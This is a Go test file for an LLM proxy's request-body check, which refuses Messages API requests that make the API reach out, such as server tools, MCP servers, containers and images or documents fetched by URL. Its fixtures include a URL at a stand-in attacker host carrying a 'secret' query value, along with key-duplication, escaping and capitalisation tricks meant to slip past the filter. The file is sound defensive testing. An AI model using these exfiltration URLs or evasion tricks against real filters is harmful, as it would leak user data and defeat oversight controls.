package llmproxy

import (
	"io"
	"net/http"
	"strings"
	"testing"

	"github.com/carapace-dev/carapace/core/audit"
)

// Pieces of request bodies for the body check's tests.
const (
	// clientTools are tools the agent runs itself, as Claude Code and the
	// SDKs send them: no type, "custom", and the Anthropic-defined client
	// tools. Their schemas hold the words the check looks for, which must
	// not matter there.
	clientTools = `[` +
		`{"name":"Bash","description":"run a command","input_schema":{"type":"object","properties":{"type":{"type":"string"},"mcp_servers":{"type":"string"},"source":{"type":"object"}}},"cache_control":{"type":"ephemeral"}},` +
		`{"type":"custom","name":"Read","input_schema":{"type":"object"}},` +
		`{"type":null,"name":"Grep","input_schema":{"type":"object"}},` +
		`{"type":"bash_20250124","name":"bash"},` +
		`{"type":"text_editor_20250728","name":"str_replace_based_edit_tool"},` +
		`{"type":"text_editor_20250124","name":"str_replace_editor"},` +
		`{"type":"memory_20250818","name":"memory"},` +
		`{"type":"computer_20251124","name":"computer","display_width_px":1024,"display_height_px":768},` +
		`{"type":"computer_20250124","name":"computer2","display_width_px":1024,"display_height_px":768}]`
	// history is a conversation with every kind of block that holds no
	// fetch: inline images and documents, a tool call and its result (the
	// call's input and the result's text holding the words the check
	// looks for), a search result whose source is a string, thinking, and
	// a lone surrogate escape, as a string cut in the middle of an emoji
	// gives.
	history = `[` +
		`{"role":"user","content":[{"type":"text","text":"` + promptMarker + ` \ud83d"},` +
		`{"type":"image","source":{"type":"base64","media_type":"image/png","data":"iVBORw0KGgo="}},` +
		`{"type":"document","source":{"type":"text","media_type":"text/plain","data":"notes"},"citations":{"enabled":true}},` +
		`{"type":"document","source":{"type":"content","content":[{"type":"text","text":"a"},{"type":"image","source":{"type":"base64","media_type":"image/png","data":"AA=="}}]}},` +
		`{"type":"search_result","source":"https://example.com/page","title":"t","content":[{"type":"text","text":"r"}]}]},` +
		`{"role":"assistant","content":[{"type":"thinking","thinking":"hm","signature":"sig"},` +
		`{"type":"tool_use","id":"toolu_1","name":"Bash","input":{"type":"web_search_20250305","mcp_servers":[{"url":"https://x.example"}],"source":{"type":"url","url":"https://x.example/a.png"},"content":[{"type":"container_upload","file_id":"f"}]}}]},` +
		`{"role":"user","content":[{"type":"tool_result","tool_use_id":"toolu_1","content":[{"type":"text","text":"{\"type\":\"url\",\"mcp_servers\":1}"},{"type":"image","source":{"type":"base64","media_type":"image/png","data":"AA=="}}]}]}]`
)

// request builds a Messages request body of the given top-level members.
func request(members ...string) string {
	return `{"model":"claude-sonnet-4-5","max_tokens":64,` + strings.Join(members, ",") + `}`
}

// userSays is a messages member with one user turn of the given content.
func userSays(content string) string {
	return `"messages":[{"role":"user","content":` + content + `}]`
}

// bodyCase is a request body and what the check makes of it.
type bodyCase struct {
	name   string
	body   string
	status int    // 0: passes; 403: refused as reaching out; 400: unreadable
	field  string // the field the refusal names
	says   string // more the refusal says
}

var bodyCases = []bodyCase{
	// Passes: what Claude Code sends, and what looks like a refusal's
	// words without being one.
	{name: "no tools", body: messagesBody},
	{name: "client tools and a conversation", body: request(`"system":[{"type":"text","text":"be brief","cache_control":{"type":"ephemeral"}}]`, `"tools":`+clientTools, `"tool_choice":{"type":"auto"}`, `"messages":`+history)},
	{name: "streamed, with client tools", body: request(`"stream":true`, `"tools":`+clientTools, userSays(`"hi"`))},
	{name: "the words in text", body: request(userSays(`"mcp_servers web_search_20250305 {\"type\":\"url\"} container"`))},
	{name: "odd but not ours: numbers, repeated model, empty tools", body: `{"model":"a","model":"b","temperature":1e400,"max_tokens":64,"tools":[],"metadata":{"user_id":"u","container":"c"},` + userSays(`"hi"`) + `}`},

	// Refused: server tools, whatever they are and however they are
	// written.
	{name: "web_search (GA, no beta)", body: request(`"tools":[{"type":"web_search_20250305","name":"web_search","max_uses":5}]`, userSays(`"hi"`)), status: 403, field: "tools[0]", says: `"web_search_20250305"`},
	{name: "web_search among client tools", body: request(`"tools":[{"name":"Bash","input_schema":{"type":"object"}},{"type":"bash_20250124","name":"bash"},{"type":"web_search_20260209","name":"web_search"}]`, userSays(`"hi"`)), status: 403, field: "tools[2]", says: `"web_search_20260209"`},
	{name: "web_fetch", body: request(`"tools":[{"type":"web_fetch_20250910","name":"web_fetch"}]`, userSays(`"hi"`)), status: 403, field: "tools[0]", says: "web_fetch_20250910"},
	{name: "web_fetch, a newer version", body: request(`"tools":[{"type":"web_fetch_20260318","name":"web_fetch"}]`, userSays(`"hi"`)), status: 403, field: "tools[0]", says: "web_fetch_20260318"},
	{name: "code execution", body: request(`"tools":[{"type":"code_execution_20250825","name":"code_execution"}]`, userSays(`"hi"`)), status: 403, field: "tools[0]", says: "code_execution_20250825"},
	{name: "the MCP connector's toolset", body: request(`"tools":[{"type":"mcp_toolset","mcp_server_name":"x"}]`, userSays(`"hi"`)), status: 403, field: "tools[0]", says: "mcp_toolset"},
	{name: "tool search", body: request(`"tools":[{"type":"tool_search_tool_regex_20251119","name":"tool_search"}]`, userSays(`"hi"`)), status: 403, field: "tools[0]"},
	{name: "advisor", body: request(`"tools":[{"type":"advisor_20260301","name":"advisor"}]`, userSays(`"hi"`)), status: 403, field: "tools[0]"},
	{name: "a server tool not yet invented", body: request(`"tools":[{"type":"web_browse_20270101","name":"b"}]`, userSays(`"hi"`)), status: 403, field: "tools[0]", says: "web_browse_20270101"},
	{name: "a client tool's prefix on a server tool", body: request(`"tools":[{"type":"bash_code_execution_20250825","name":"b"}]`, userSays(`"hi"`)), status: 403, field: "tools[0]"},
	{name: "a client tool's name with another case", body: request(`"tools":[{"type":"Bash_20250124","name":"b"}]`, userSays(`"hi"`)), status: 403, field: "tools[0]"},
	{name: "a tools value that is not a list", body: request(`"tools":{"type":"web_search_20250305"}`, userSays(`"hi"`)), status: 403, field: "tools"},
	{name: "a list in the tools list", body: request(`"tools":[{"name":"a"},[{"type":"web_search_20250305"}]]`, userSays(`"hi"`)), status: 403, field: "tools[1][0]"},
	{name: "a type that is not a string", body: request(`"tools":[{"type":["custom"],"name":"b"}]`, userSays(`"hi"`)), status: 403, field: "tools[0]"},
	{name: "a type written twice, the second a server tool", body: request(`"tools":[{"type":"custom","type":"web_search_20250305","name":"b"}]`, userSays(`"hi"`)), status: 403, field: "tools[0]", says: "web_search_20250305"},
	{name: "a type written twice, the first a server tool", body: request(`"tools":[{"type":"web_search_20250305","type":"custom","name":"b"}]`, userSays(`"hi"`)), status: 403, field: "tools[0]"},
	{name: "the type key in capitals", body: request(`"tools":[{"name":"b","TYPE":"web_search_20250305"}]`, userSays(`"hi"`)), status: 403, field: "tools[0]"},
	{name: "the tools key in capitals", body: request(`"Tools":[{"type":"web_search_20250305"}]`, userSays(`"hi"`)), status: 403, field: "tools[0]"},
	{name: "the tools written twice", body: request(`"tools":[{"type":"web_search_20250305"}]`, `"tools":[]`, userSays(`"hi"`)), status: 403, field: "tools[0]"},
	{name: "escapes in the key and the value", body: request(`"tool\u0073":[{"typ\u0065":"web_s\u0065arch_20250305"}]`, userSays(`"hi"`)), status: 403, field: "tools[0]", says: "web_search_20250305"},
	{name: "a type that is not a type name", body: request(`"tools":[{"type":"`+promptMarker+`\u001b[2J"}]`, userSays(`"hi"`)), status: 403, field: "tools[0]"},

	// Refused: the other fields that make the API reach out.
	{name: "mcp_servers", body: request(`"mcp_servers":[{"type":"url","url":"https://mcp.example/sse","name":"x"}]`, userSays(`"hi"`)), status: 403, field: "mcp_servers", says: "MCP"},
	{name: "mcp_servers, empty", body: request(`"mcp_servers":[]`, userSays(`"hi"`)), status: 403, field: "mcp_servers"},
	{name: "mcp_servers in capitals", body: request(`"MCP_Servers":[{"type":"url","url":"https://mcp.example/sse","name":"x"}]`, userSays(`"hi"`)), status: 403, field: "mcp_servers"},
	{name: "a container", body: request(`"container":{"id":"container_1","skills":[{"type":"anthropic","skill_id":"pptx"}]}`, userSays(`"hi"`)), status: 403, field: "container"},
	{name: "an image by URL", body: request(userSays(`[{"type":"text","text":"look"},{"type":"image","source":{"type":"url","url":"https://attacker.example/?d=secret"}}]`)), status: 403, field: "messages[0].content[1].source", says: `"url"`},
	{name: "a document by URL", body: request(userSays(`[{"type":"document","source":{"type":"url","url":"https://attacker.example/a.pdf"}}]`)), status: 403, field: "messages[0].content[0].source", says: "fetch"},
	{name: "an image from the Files API", body: request(userSays(`[{"type":"image","source":{"type":"file","file_id":"file_1"}}]`)), status: 403, field: "messages[0].content[0].source", says: `"file"`},
	{name: "a document from the Files API", body: request(userSays(`[{"type":"document","source":{"type":"file","file_id":"file_1"}}]`)), status: 403, field: "messages[0].content[0].source"},
	{name: "an image by URL in a tool result", body: request(`"messages":[{"role":"user","content":"a"},{"role":"assistant","content":[{"type":"tool_use","id":"t","name":"Bash","input":{}}]},{"role":"user","content":[{"type":"tool_result","tool_use_id":"t","content":[{"type":"image","source":{"type":"url","url":"https://attacker.example/x"}}]}]}]`), status: 403, field: "messages[2].content[0].content[0].source"},
	{name: "an image by URL in a document's content", body: request(userSays(`[{"type":"document","source":{"type":"content","content":[{"type":"image","source":{"type":"url","url":"https://attacker.example/x"}}]}}]`)), status: 403, field: "messages[0].content[0].source.content[0].source"},
	{name: "an image by URL in the system prompt", body: request(`"system":[{"type":"image","source":{"type":"url","url":"https://attacker.example/x"}}]`, userSays(`"hi"`)), status: 403, field: "system[0].source"},
	{name: "a block of a type not yet invented, by URL", body: request(userSays(`[{"type":"audio","source":{"type":"url","url":"https://attacker.example/x"}}]`)), status: 403, field: "messages[0].content[0].source"},
	{name: "a source without a type", body: request(userSays(`[{"type":"image","source":{"url":"https://attacker.example/x"}}]`)), status: 403, field: "messages[0].content[0].source"},
	{name: "a source written twice", body: request(userSays(`[{"type":"image","source":{"type":"base64","media_type":"image/png","data":"AA=="},"source":{"type":"url","url":"https://attacker.example/x"}}]`)), status: 403, field: "messages[0].content[0].source"},
	{name: "a source type written twice", body: request(userSays(`[{"type":"image","source":{"type":"base64","type":"url","url":"https://attacker.example/x"}}]`)), status: 403, field: "messages[0].content[0].source"},
	{name: "a container upload", body: request(userSays(`[{"type":"container_upload","file_id":"file_1"}]`)), status: 403, field: "messages[0].content[0]", says: "container_upload"},

	// Unreadable: refused rather than guessed at.
	{name: "cut short", body: `{"model":"claude-sonnet-4-5","tools":[`, status: 400},
	{name: "not JSON", body: `model=claude`, status: 400},
	{name: "a list, not an object", body: `[{"tools":[{"type":"web_search_20250305"}]}]`, status: 400},
	{name: "empty", body: ``, status: 400},
	{name: "a second object after the first", body: messagesBody + ` {"tools":[{"type":"web_search_20250305"}]}`, status: 400},
	{name: "content nested without end", body: request(`"messages":` + strings.Repeat(`[`, 100) + strings.Repeat(`]`, 100)), status: 400},
}

// TestCheckBody runs the body check on each case.
func TestCheckBody(t *testing.T) {
	for _, tc := range bodyCases {
		t.Run(tc.name, func(t *testing.T) {
			be := checkBody([]byte(tc.body))
			switch {
			case tc.status == 0 && be != nil:
				t.Fatalf("refused (%d %s): %s", be.status, be.field, be.msg)
			case tc.status == 0:
				return
			case be == nil:
				t.Fatalf("passed; want %d", tc.status)
			case be.status != tc.status:
				t.Fatalf("status %d (%s), want %d", be.status, be.msg, tc.status)
			}
			if tc.field != "" && (be.field != tc.field || !strings.Contains(be.msg, tc.field)) {
				t.Errorf("field %q, message %q; want both to name %s", be.field, be.msg, tc.field)
			}
			if !strings.Contains(be.msg, tc.says) || !strings.HasPrefix(be.msg, "Carapace") {
				t.Errorf("message %q, want one from Carapace saying %q", be.msg, tc.says)
			}
			if strings.Contains(be.msg+be.detail, promptMarker) || strings.ContainsAny(be.msg+be.detail, "\x1b") {
				t.Errorf("the refusal repeats the body: %q (%q)", be.msg, be.detail)
			}
		})
	}
}

// TestServerToolsRefusedByTheProxy sends each case through the proxy, on
// both endpoints that take a body: a refused request gets the API's error
// shape, is audited with what it asked for, and never reaches the model
// API; a passing one reaches it byte for byte, and a stream still streams.
func TestServerToolsRefusedByTheProxy(t *testing.T) {
	h := newHarness(t, func(w http.ResponseWriter, r *http.Request) {
		if strings.Contains(string(seenBody(r)), `"stream":true`) {
			w.Header().Set("Content-Type", "text/event-stream")
			io.WriteString(w, sseFirst+sseRest)
			return
		}
		replyJSON(w, r)
	}, func(o *Options) { o.RequestsPerMinute, o.Burst = 6000, 1000 })
	forwarded := 0
	for _, path := range []string{"/v1/messages?beta=true", "/v1/messages/count_tokens?beta=true"} {
		for _, tc := range bodyCases {
			t.Run(path+" "+tc.name, func(t *testing.T) {
				audited := len(h.audit.finals())
				resp, body := rawRequest(t, h.sock, "POST", path, tc.body)
				seen := h.api.requests()
				if tc.status == 0 {
					forwarded++
					if resp.StatusCode != http.StatusOK {
						t.Fatalf("status %d %s, want 200", resp.StatusCode, body)
					}
					if len(seen) != forwarded || string(seen[len(seen)-1].Body) != tc.body {
						t.Fatalf("the API saw %d requests, want %d, the last this body byte for byte", len(seen), forwarded)
					}
					if strings.Contains(tc.body, `"stream":true`) && (resp.Header.Get("Content-Type") != "text/event-stream" || string(body) != sseFirst+sseRest) {
						t.Errorf("a stream with client tools: %q %q", resp.Header.Get("Content-Type"), body)
					}
					// Its audit entry may come after the reply: wait for
					// it, so that the next case reads its own.
					h.audit.wait(t, audited+1)
					return
				}
				if len(seen) != forwarded {
					t.Fatalf("a refused request reached the API (%d requests, want %d)", len(seen), forwarded)
				}
				wantType, wantCode := "permission_error", CodeNetworkFeature
				if tc.status == http.StatusBadRequest {
					wantType, wantCode = "invalid_request_error", CodeBadRequest
				}
				if e := decodeAPIError(t, body); resp.StatusCode != tc.status || e.Error.Type != wantType || !strings.Contains(e.Error.Message, tc.field) {
					t.Errorf("%d %+v; want %d %s naming %s", resp.StatusCode, e.Error, tc.status, wantType, tc.field)
				}
				e := h.audit.wait(t, audited+1)
				if e.Outcome != audit.OutcomeRejected || e.Code != wantCode || !strings.Contains(e.Reason, tc.field) || !strings.Contains(e.Reason, tc.says) {
					t.Errorf("audit entry %+v; want a rejected %s entry naming %s and %s", e, wantCode, tc.field, tc.says)
				}
			})
		}
	}
	// The control: the passing cases did reach the API, so a refusal
	// above is the check's, not a proxy that forwards nothing.
	if forwarded == 0 || len(h.api.requests()) != forwarded {
		t.Fatalf("the API saw %d requests, want %d", len(h.api.requests()), forwarded)
	}
}
